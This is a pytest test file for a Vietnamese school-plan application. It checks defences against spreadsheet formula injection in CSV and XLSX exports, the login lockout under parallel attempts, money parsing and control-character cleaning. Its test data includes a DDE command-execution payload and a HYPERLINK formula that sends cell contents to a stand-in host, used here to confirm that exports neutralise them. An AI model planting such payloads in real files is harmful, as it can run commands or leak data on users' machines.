"""Issue 21: what an attack run broke. One test (or a few) per item."""

import csv
import io
from datetime import date

import pandas as pd
import pytest
from openpyxl import load_workbook

from kdcl import exports, templates
from kdcl.access import Scope
from kdcl.importing import Options, Upload, import_files

ADMIN = Scope.everything(user="test")
NASTY = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"bấm")', "+1+1", "-2+3", "@SUM(A1:A2)",
         "\t=1+1", "'=quoted already", "'plain apostrophe"]  # as many as the tiny database has items


def run(store, name, data, scope=ADMIN, **options):
    [result] = import_files(store, scope, [Upload(name, data)], Options(**options))
    return result


def query(store, sql, *params):
    with store.cursor() as cur:
        return cur.execute(sql, list(params)).fetchall()


def _set_measures(store, texts):
    ids = [r[0] for r in query(store, "select item_id from plan_item order by item_id")][: len(texts)]
    assert len(ids) == len(texts)
    with store.cursor() as cur:
        for item_id, text in zip(ids, texts):
            cur.execute("update plan_item set measures = ? where item_id = ?", [text, item_id])
    return ids


# --------------------------------------------------------------------------- 1. one writer, formula guard


def test_template_xlsx_export_never_writes_a_formula(tiny_store):
    _set_measures(tiny_store, NASTY)
    data, _ = templates.export_bytes(tiny_store, ADMIN, "plan", "xlsx")
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert set(NASTY) - {"\t=1+1"} <= texts


def test_template_csv_export_puts_formula_text_behind_an_apostrophe(tiny_store):
    _set_measures(tiny_store, NASTY)
    data, _ = templates.export_bytes(tiny_store, ADMIN, "plan", "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    col = rows[0].index("Giải pháp")
    values = [r[col] for r in rows[1:]]
    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=cmd|' /C calc'!A0" in values and "'@SUM(A1:A2)" in values
    assert "''=quoted already" in values and "'plain apostrophe" in values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_import_round_trip_gives_back_formula_like_text(tiny_store, fmt):
    texts = [t for t in NASTY if not t.startswith("\t")]
    ids = _set_measures(tiny_store, texts)
    data, _ = templates.export_bytes(tiny_store, ADMIN, "plan", fmt)
    _set_measures(tiny_store, ["changed"] * len(texts))
    result = run(tiny_store, "lai." + fmt, data)
    assert result.status == "imported", [e.message for e in result.errors]
    got = [query(tiny_store, "select measures from plan_item where item_id = ?", i)[0][0] for i in ids]
    assert got == texts


def test_control_characters_never_break_an_export(tiny_store):
    _set_measures(tiny_store, ["Chuông\x07 reo\x1b[31m đỏ"])
    data, _ = templates.export_bytes(tiny_store, ADMIN, "plan", "xlsx")
    values = {c.value for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows() for c in row}
    assert "Chuông reo[31m đỏ" in values
    text = templates.export_bytes(tiny_store, ADMIN, "plan", "csv")[0].decode("utf-8-sig")
    assert "\x07" not in text and "\x1b" not in text and "Chuông reo[31m đỏ" in text


def test_write_table_is_the_one_writer(tmp_path):
    frame = pd.DataFrame({"Ngày": [date(2025, 3, 1)], "Kinh phí": [5_000_000], "Nội dung": ["=1+1\x07"]})
    out = tmp_path / "a.csv"
    exports.write_table(frame, out, "csv")
    assert out.read_bytes().decode("utf-8-sig") == "Ngày,Kinh phí,Nội dung\r\n01/03/2025,5000000,'=1+1\r\n"
    buffer = io.BytesIO()
    exports.write_table({"Một": frame, "Hai": frame}, buffer, "xlsx")
    wb = load_workbook(io.BytesIO(buffer.getvalue()))
    assert wb.sheetnames == ["Một", "Hai"]
    a2, b2, c2 = wb["Hai"][2]
    assert a2.value.date() == date(2025, 3, 1) and a2.number_format == "DD/MM/YYYY"
    assert b2.value == 5_000_000 and b2.number_format == "#,##0"
    assert c2.value == "=1+1" and c2.data_type == "s"


@pytest.mark.parametrize("page", ["levels", "weaknesses"])
def test_pages_write_csv_through_the_one_writer(page):
    from pathlib import Path

    source = (Path(__file__).resolve().parents[1] / "pages" / f"{page}.py").read_text(encoding="utf-8")
    assert ".to_csv(index=False)" not in source


@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'", "''", "'a", "a'=", "-", "'-5", "\r=1", "plain"])
def test_the_csv_guard_comes_off_exactly(text):
    written = exports.csv_text(text)
    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert exports.unguard_csv(written) == text


def test_plan_docx_survives_control_characters(tiny_store):
    from docx import Document

    from kdcl.data.plan_document import plan_document
    from kdcl.reports.plan_docx import build_plan_docx

    with tiny_store.cursor() as cur:
        cur.execute("update plan_item set measures = 'Chuông\x07 reo\x1b[0m' where school_id = 'S1'")
        cur.execute("update school set name = 'Trường\x0b THCS' where school_id = 'S1'")
    doc = plan_document(tiny_store, ADMIN, "S1", "2024-2025")
    document = Document(io.BytesIO(build_plan_docx(doc, today=date(2025, 6, 1))))
    cells = [c.text for row in document.tables[1].rows for c in row.cells]
    assert "Chuông reo[0m" in cells


# --------------------------------------------------------------------------- 3. lockout under parallel sign-ins


def test_parallel_wrong_attempts_cannot_bypass_the_lockout(tiny_store):
    from concurrent.futures import ThreadPoolExecutor
    from datetime import datetime

    from kdcl import auth

    auth.add_user(tiny_store, "admin", "matkhau-admin", "admin")
    now = datetime(2025, 5, 15, 8, 0)

    def attempt(_):
        try:
            auth.authenticate(tiny_store, "admin", "sai-mat-khau", now=now)
        except auth.AuthError as exc:
            return str(exc)
        return "signed in"

    with ThreadPoolExecutor(max_workers=40) as pool:
        answers = list(pool.map(attempt, range(40)))
    assert answers.count("Tên đăng nhập hoặc mật khẩu không đúng.") == auth.MAX_FAILED
    assert query(tiny_store, "select failed_logins from app_user where username = 'admin'") == [(auth.MAX_FAILED,)]
    with pytest.raises(auth.AuthError, match="tạm khóa"):
        auth.authenticate(tiny_store, "admin", "matkhau-admin", now=now)


def test_unknown_accounts_lock_the_same_way(tiny_store, monkeypatch):
    from datetime import datetime

    from kdcl import auth

    monkeypatch.setattr(auth, "_unknown", {})  # no counts left over from other tests
    auth.add_user(tiny_store, "admin", "matkhau-admin", "admin")
    now = datetime(2025, 5, 15, 8, 0)
    answers = {}
    for name in ("admin", "khong-co-ai"):
        seen = []
        for _ in range(auth.MAX_FAILED + 2):
            with pytest.raises(auth.AuthError) as exc:
                auth.authenticate(tiny_store, name, "sai-mat-khau", now=now)
            seen.append(str(exc.value))
        answers[name] = seen
    assert answers["admin"] == answers["khong-co-ai"]
    assert "tạm khóa" in answers["admin"][-1]


# --------------------------------------------------------------------------- 4. money

PLAN_HEADER = ["Mã trường", "Năm học", "Tiêu chí", "Mức mục tiêu", "Điểm yếu", "Kết quả cần đạt", "Giải pháp",
               "Chủ trì", "Phối hợp", "Thời gian thực hiện", "Ngày bắt đầu", "Hạn hoàn thành", "Kinh phí",
               "Trạng thái", "Ngày hoàn thành", "Ghi chú"]


def plan_csv(*rows: dict) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(PLAN_HEADER)
    for cells in rows:
        good = dict(zip(PLAN_HEADER, ["S3", "2024-2025", "5.4", "1"] + [""] * 12))
        writer.writerow(list({**good, **cells}.values()))
    return out.getvalue().encode("utf-8-sig")


@pytest.mark.parametrize("text", ["-5.000.000", "(5.000.000)", "âm 5 triệu", "− 5 triệu đồng", "Âm 5.000.000 đ"])
def test_negative_money_text_is_read_as_negative(text):
    from kdcl.timetext import parse_money

    assert parse_money(text) == -5_000_000


@pytest.mark.parametrize("text", ["5 - 10 triệu", "Từ 2023-2024: 5 triệu", "(dự kiến) 5 triệu"])
def test_a_dash_or_brackets_elsewhere_are_not_a_sign(text):
    from kdcl.timetext import parse_money

    assert (parse_money(text) or 0) >= 0


@pytest.mark.parametrize("text, message", [
    ("-5.000.000", "là số âm"), ("(5.000.000)", "là số âm"), ("âm 5 triệu", "là số âm"),
    ("100000000000000000000000", "quá lớn"), ("100.000 tỷ", "quá lớn"),
])
def test_negative_or_absurd_money_is_refused_at_preview_with_row_and_column(tiny_store, text, message):
    before = query(tiny_store, "select count(*) from plan_item")
    result = run(tiny_store, "tien.csv", plan_csv({}, {"Kinh phí": text}), dry_run=True)
    assert result.status == "rejected", result.summary
    [error] = result.errors
    assert error.row == 3 and error.column == "Kinh phí" and message in error.message
    assert error.message.startswith("Tệp «tien.csv», dòng 3, cột «Kinh phí»")
    assert query(tiny_store, "select count(*) from plan_item") == before


# --------------------------------------------------------------------------- 5. control characters at the door


def test_control_characters_are_dropped_at_import_keeping_visible_text(tiny_store):
    from kdcl.importing.normalise import clean

    assert clean("Chuông\x07 reo\x1b[31m đỏ\x00\x7f\x85") == "Chuông reo[31m đỏ"
    assert clean("dòng 1\vdòng 2") == "dòng 1\ndòng 2"
    result = run(tiny_store, "dieu-khien.csv", plan_csv({"Điểm yếu": "Thiếu\x07 phòng\x1b[0m học", "Chủ trì": "HT\x08"}))
    assert result.status == "imported", [e.message for e in result.errors]
    assert query(tiny_store, "select weakness, lead from plan_item where school_id = 'S3'") == [
        ("Thiếu phòng[0m học", "HT")]
